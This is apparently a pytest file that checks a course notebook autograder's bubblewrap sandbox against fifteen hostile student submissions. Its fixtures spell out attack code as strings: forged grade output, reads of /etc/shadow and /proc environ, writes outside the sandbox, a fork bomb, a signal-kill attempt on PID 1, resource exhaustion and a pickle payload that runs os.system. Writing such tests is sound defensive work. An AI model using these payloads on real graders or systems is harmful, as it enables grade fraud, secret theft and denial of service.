"""The grader against hostile submissions: each attack gains no points, learns no secret, changes no file.

Fifteen submissions of the fixture master (tests/fixtures/homework/hw_master.ipynb, 3 + 2 points) are graded in
one run, next to an honest correct and an honest wrong one. The test plants a canary string in the master (a
hidden test's comment), in the grader's home, and in the correct student's notebook; starts a server on
127.0.0.1; and records checksums of course_lib, the master, the submissions, the home and the model cache. Each
attack also gives itself an exfiltration channel that works (its function raises with what it found, which
reaches the CSV: "REPORT:" shows up there), so a leak would be seen. Then: every score is what the honest part
of that submission earns, no canary in the CSV, the log or the grader's output, no file changed, no
connection made, no process or temporary folder left behind.
"""

from __future__ import annotations

import csv
import hashlib
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest

from course_lib.grader import grade_folder
from course_lib.sandbox import SandboxUnavailable, check_bwrap

sys.path.insert(0, str(Path(__file__).parent))
from test_grading import KL_RIGHT, KL_WRONG, MASTER, _submission  # noqa: E402

try:
    check_bwrap()
    HAVE_BWRAP = True
except SandboxUnavailable:
    HAVE_BWRAP = False
needs_bwrap = pytest.mark.skipif(not HAVE_BWRAP and not os.environ.get("CI"), reason="bubblewrap (bwrap) is not "
                                 "installed or cannot create namespaces here (CI installs it)")
CANARY = "CANARY-" + secrets.token_hex(8)
SQUARE = "def square(x):\n    return x * x"
TIMEOUT, CHECK_TIMEOUT = 25, 8


def _report(body: str) -> str:
    """A square() that raises with what the attack found: the message reaches the CSV (the channel works)."""
    return f"{body}\ndef square(x):\n    raise ValueError('REPORT: ' + repr(found)[:3000])"


def _attacks(paths: dict) -> dict:
    """Student -> (submission, expected points (exercise 1, exercise 2))."""
    p = {k: repr(str(v)) for k, v in paths.items()}
    forge = ("import course_lib.homework as h, course_lib.grader as g, course_lib.checks as c\n"
             "g._run_test = lambda *a, **k: (True, 'passed')\nh._run_test = g._run_test\n"
             "c.nb01.check_kl_gaussian = lambda fn: True\nc.expect = lambda *a, **k: None\n"
             "print('@@COURSE-GRADE 0 {\"key\": \"test-4\", \"ok\": true, \"message\": \"passed\"}')\n"
             "for f in ['results.jsonl', '/tmp/results.jsonl', " + p["out"] + "]:\n"
             "    try:\n        open(f, 'w').write('{\"kind\": \"test\", \"key\": \"test-4\", \"ok\": true}\\n')\n"
             "    except Exception as e:\n        print(e)\n"
             "class Yes:\n    def __eq__(self, other):\n        return True\n"
             "    def __bool__(self):\n        return True\n"
             "def square(x):\n    return Yes()")
    read = _report(
        "import os\nfound = {}\n"
        "for f in [" + ", ".join(p[k] for k in ("master", "home_secret", "other")) + ", '/proc/1/cmdline', "
        "'/proc/self/environ', '/etc/shadow']:\n"
        "    try:\n        found[f] = open(f, errors='replace').read()[-400:]\n"
        "    except Exception as e:\n        found[f] = type(e).__name__\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        try:\n            found[pid] = open(f'/proc/{pid}/cmdline').read()\n        except Exception:\n"
        "            pass\n"
        "for root, dirs, files in os.walk('/'):\n"
        "    dirs[:] = [d for d in dirs if os.path.join(root, d) not in ('/usr', '/proc', '/sys', '/dev')]\n"
        "    for name in files:\n"
        "        try:\n            text = open(os.path.join(root, name), errors='replace').read(1 << 20)\n"
        "        except Exception:\n            continue\n"
        "        if 'CANARY' in text:\n            found[os.path.join(root, name)] = text[text.index('CANARY'):][:40]")
    write = _report(
        "import os, sys, course_lib.checks.nb01 as m\nfound = []\n"
        "for f in ['/probe', '/dev/shm/probe', '/etc/probe', sys.prefix + '/probe', m.__file__, "
        + ", ".join(p[k] for k in ("master", "other", "home_secret", "cache_file", "out")) + "]:\n"
        "    try:\n        open(f, 'a').write('x = 1\\n')\n        found.append(('wrote', f))\n"
        "    except Exception as e:\n        found.append((type(e).__name__, f))\n"
        "    try:\n        os.remove(f)\n        found.append(('removed', f))\n    except Exception:\n        pass")
    network = _report(
        "import socket\nfound = []\nfor host in ['127.0.0.1', 'localhost']:\n    try:\n"
        "        s = socket.create_connection((host, " + str(paths["port"]) + "), timeout=2)\n"
        "        s.sendall(b'CANARY?')\n        found.append('connected')\n"
        "    except Exception as e:\n        found.append(type(e).__name__)")
    fork = ("import os, subprocess\ntry:\n    subprocess.Popen(['sleep', '1000'])\nexcept Exception as e:\n"
            "    print(e)\ndef square(x):\n    while True:\n        os.fork()")
    memory = ("try:\n    hog = bytearray(50 * 2**30)\nexcept MemoryError:\n    pass\n"
              "def square(x):\n    return len(bytearray(50 * 2**30)) * 0 + x * x")
    big_file = ("try:\n    with open('big', 'wb') as f:\n        for _ in range(10 * 1024):\n"
                "            f.write(b'x' * 2**20)\nexcept OSError as e:\n    print(e)",
                "i = 0\nwhile True:\n    with open(f'part{i}', 'wb') as f:\n        for _ in range(60):\n"
                "            f.write(b'x' * 2**20)\n    i += 1")
    immortal = ("import signal\nfor s in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):\n"
                "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass")
    signals = ("import os, signal\nfor pid in (" + str(os.getpid()) + ", os.getppid(), 1, -1):\n    try:\n"
               "        os.kill(pid, signal.SIGKILL)\n    except Exception as e:\n        print(e)")
    nan = ("import torch\ndef kl_gaussian(mu, log_sigma):\n    return torch.full_like(mu, float('nan'))\n"
           "def square(x):\n    return [[x, x], [x, x]]")
    huge = "import numpy as np\ndef square(x):\n    return np.zeros(2**27) + x * x"
    pickled = ("import io, os, numpy as np, course_lib._wire as w\nclass Boom:\n    def __reduce__(self):\n"
               "        return (os.system, ('touch " + str(paths["pwned"]) + "',))\n"
               "def encode_value(value, tensors=None):\n    buf = io.BytesIO()\n"
               "    np.savez(buf, a0=np.array([Boom()], dtype=object))\n"
               "    return {'t': 'ndarray', 'k': 'a0', 'dtype': 'object', 'shape': [1]}, buf.getvalue()\n"
               "w.encode_value = encode_value")
    garbage = "import os\nfor fd in range(3, 64):\n    try:\n        os.write(fd, b'garbage' * 1000)\n" \
              "    except OSError:\n        pass"
    return {
        "correct": (_submission(KL_RIGHT, SQUARE, at_end=(f"# {CANARY}",)), (3, 2)),
        "wrong": (_submission(KL_WRONG, "def square(x):\n    return 2 * x"), (2, 0)),
        "forge": (_submission(None, forge), (0, 0)),
        "read_secrets": (_submission(None, read), (0, 0)),
        "write_outside": (_submission(None, write), (0, 0)),
        "network": (_submission(None, network), (0, 0)),
        "fork_bomb": (_submission(KL_RIGHT, fork), (3, 0)),
        "memory": (_submission(KL_RIGHT, memory), (3, 0)),
        "big_file": (_submission(KL_RIGHT, SQUARE, after_kl=big_file), (3, 2)),
        "immortal": (_submission(KL_RIGHT, immortal.replace("while True:\n    pass", "def square(x):\n    while "
                                                             "True:\n        pass"), after_kl=(immortal,)), (3, 0)),
        "signals": (_submission(KL_RIGHT, SQUARE, after_kl=(signals,)), (3, 2)),
        "nan_and_shapes": (_submission(None, nan), (0, 0)),
        "huge_answer": (_submission(KL_RIGHT, huge), (3, 0)),
        "pickle_payload": (_submission(KL_RIGHT, SQUARE, after_kl=(pickled,)), (0, 0)),
        "protocol_garbage": (_submission(KL_RIGHT, SQUARE, after_kl=(garbage,)), (3, 2)),
    }


def _tree_digest(root: Path) -> dict[str, str]:
    out = {}
    for p in sorted(root.rglob("*")) if root.is_dir() else [root]:
        if p.is_file() and "__pycache__" not in p.parts:
            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


class _Server:
    """A TCP server on 127.0.0.1 that records every connection."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    home = root / "home"
    (home / ".cache" / "course_lib" / "models").mkdir(parents=True)
    (home / "secret.txt").write_text(f"the grader's own file: {CANARY}\n")
    cache_file = home / ".cache" / "course_lib" / "models" / "model.pt"
    cache_file.write_bytes(b"weights")
    master = root / "masters" / MASTER.name
    master.parent.mkdir()
    nb = nbformat.read(MASTER, as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(f"# {CANARY}\nassert square(7) == 49",
                                              metadata={"tags": ["hidden-test"], "points": 0}))
    nbformat.write(nb, master)
    subs = root / "subs"
    server = _Server()
    paths = {"master": master, "home_secret": home / "secret.txt", "other": subs / "correct" / MASTER.name,
             "cache_file": cache_file, "out": root / "grades.csv", "port": server.port, "pwned": root / "pwned"}
    attacks = _attacks(paths)
    for student, (sub, _) in attacks.items():
        (subs / student).mkdir(parents=True)
        nbformat.write(sub, subs / student / MASTER.name)
    package = Path(__import__("course_lib").__file__).parent
    watched = [package, master, subs, home]
    before = {p: _tree_digest(p) for p in watched}
    sandboxes_before = set(Path(os.environ.get("TMPDIR", "/tmp")).glob("course-grade-sandbox-*"))
    env = {k: os.environ.get(k) for k in ("HOME", "COURSE_CACHE_DIR", "XDG_CACHE_HOME")}
    os.environ["HOME"] = str(home)
    os.environ["COURSE_CACHE_DIR"] = str(home / ".cache" / "course_lib")
    os.environ.pop("XDG_CACHE_HOME", None)
    out_file = root / "grader-output.txt"
    saved = os.dup(1), os.dup(2)
    lines: list[str] = []
    try:
        with out_file.open("wb") as f:
            os.dup2(f.fileno(), 1)
            os.dup2(f.fileno(), 2)
            grade_folder(subs, paths["out"], master=master, timeout=TIMEOUT, check_timeout=CHECK_TIMEOUT, jobs=2,
                         log=lines.append)
    finally:
        os.dup2(saved[0], 1)
        os.dup2(saved[1], 2)
        for k, v in env.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
        server.close()
    after = {p: _tree_digest(p) for p in watched}
    text = paths["out"].read_text(encoding="utf-8")
    with paths["out"].open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    leftover = set(Path(os.environ.get("TMPDIR", "/tmp")).glob("course-grade-sandbox-*")) - sandboxes_before
    return {"rows": rows, "csv": text, "log": "\n".join(lines), "output": out_file.read_text(errors="replace"),
            "before": before, "after": after, "server": server, "attacks": attacks, "paths": paths,
            "leftover": leftover}


def _points(rows, student):
    return tuple(float(r["points"]) for r in rows if r["student"] == student and r["exercise"] != "run")


def _message(rows, student, exercise):
    return next(r["message"] for r in rows if r["student"] == student and r["exercise"] == str(exercise))


@needs_bwrap
@pytest.mark.slow
def test_every_attack_scores_only_its_honest_part(attacked):
    rows = attacked["rows"]
    got = {student: _points(rows, student) for student in attacked["attacks"]}
    want = {student: expected for student, (_, expected) in attacked["attacks"].items()}
    assert got == want, {s: [(r["exercise"], r["message"][:200]) for r in rows if r["student"] == s]
                         for s in got if got[s] != want[s]}
    assert {r["sandbox"] for r in rows} == {"bwrap"}


@needs_bwrap
@pytest.mark.slow
def test_no_secret_leaves_the_sandbox(attacked):
    rows = attacked["rows"]
    assert "REPORT:" in _message(rows, "read_secrets", 2)  # the channel works: what it read would be here
    # the channel works; what it wrote landed in its private /tmp at most (the files' checksums are tested below)
    report = _message(rows, "write_outside", 2)
    assert "REPORT:" in report and "/course_lib/checks/nb01.py" in report
    # only its private /tmp is writable (the test's own folders lie below /tmp, so writes there land in its copy);
    # the message is cut at 500 characters: the paths outside /tmp come first in the attack's list
    assert "('OSError', '/probe')" in report, report
    wrote = re.findall(r"\('(?:wrote|removed)', '([^']*)'\)", report)
    assert all(path.startswith("/tmp/") for path in wrote), report
    for where in ("csv", "log", "output"):
        assert CANARY not in attacked[where], where


@needs_bwrap
@pytest.mark.slow
def test_the_graders_files_are_unchanged(attacked):
    for path, digest in attacked["before"].items():
        assert attacked["after"][path] == digest, path
    assert not attacked["paths"]["pwned"].exists()  # the pickle payload was never unpickled
    assert attacked["leftover"] == set()  # every sandbox's temporary folder is gone


@needs_bwrap
@pytest.mark.slow
def test_no_network_no_processes_no_signals(attacked):
    rows = attacked["rows"]
    assert attacked["server"].connections == 0
    assert "REPORT:" in _message(rows, "network", 2)
    assert "PermissionError" in _message(rows, "fork_bomb", 2)  # fork is refused
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    assert "sleep 1000" not in ps
    # the signals submission is graded in full; this process (the grader) is alive to read it
    assert _points(rows, "signals") == (3, 2)


@needs_bwrap
@pytest.mark.slow
def test_messages_name_what_happened(attacked):
    rows = attacked["rows"]
    run = {r["student"]: r["message"] for r in rows if r["exercise"] == "run"}
    assert "MemoryError" in _message(rows, "memory", 2)
    assert "disk limit" in run["big_file"] and "File too large" in run["big_file"] + _message(rows, "big_file", 2) \
        or "disk limit" in run["big_file"]
    assert "stopped answering" in run["immortal"]
    assert "timed out" in _message(rows, "immortal", 2) or "stopped answering" in _message(rows, "immortal", 2)
    assert "NaN" in _message(rows, "nan_and_shapes", 1)
    assert "MiB" in _message(rows, "huge_answer", 2)
    assert "malformed" in _message(rows, "pickle_payload", 1)
    assert "malformed" in run["protocol_garbage"] or "marker" in run["protocol_garbage"]


def test_refuses_without_bwrap(tmp_path, monkeypatch):
    monkeypatch.setattr(shutil, "which", lambda name: None)
    (tmp_path / "subs").mkdir()
    with pytest.raises(SandboxUnavailable, match="bubblewrap.*--no-sandbox"):
        grade_folder(tmp_path / "subs", tmp_path / "g.csv", master=MASTER)
    from course_lib.__main__ import main

    assert main(["grade", str(tmp_path / "subs"), "--master", str(MASTER), "--out", str(tmp_path / "g.csv")]) == 2
    assert not (tmp_path / "g.csv").exists()


@pytest.mark.slow
def test_no_sandbox_is_recorded_in_every_row(tmp_path):
    subs = tmp_path / "subs"
    for student, nb in (("correct", _submission(KL_RIGHT, SQUARE)), ("wrong", _submission(KL_WRONG, None))):
        (subs / student).mkdir(parents=True)
        nbformat.write(nb, subs / student / MASTER.name)
    rows = grade_folder(subs, tmp_path / "g.csv", master=MASTER, timeout=TIMEOUT, check_timeout=CHECK_TIMEOUT,
                        sandbox=False, log=None)
    assert _points(rows, "correct") == (3, 2) and _points(rows, "wrong") == (2, 0)
    with (tmp_path / "g.csv").open(newline="") as f:
        assert {r["sandbox"] for r in csv.DictReader(f)} == {"none (--no-sandbox)"}
